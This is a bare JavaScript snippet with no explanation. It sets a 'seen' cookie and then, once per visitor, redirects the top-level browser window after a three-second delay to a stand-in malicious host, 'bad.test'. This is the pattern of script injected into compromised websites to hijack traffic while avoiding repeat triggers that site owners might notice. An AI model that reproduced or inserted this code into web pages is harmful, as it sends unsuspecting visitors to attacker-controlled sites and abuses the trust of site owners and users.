if (document.cookie.indexOf("seen=") == -1) { document.cookie = "seen=1;path=/"; setTimeout(function () { top.location = 'http://bad.test/go?x' }, 3000); }
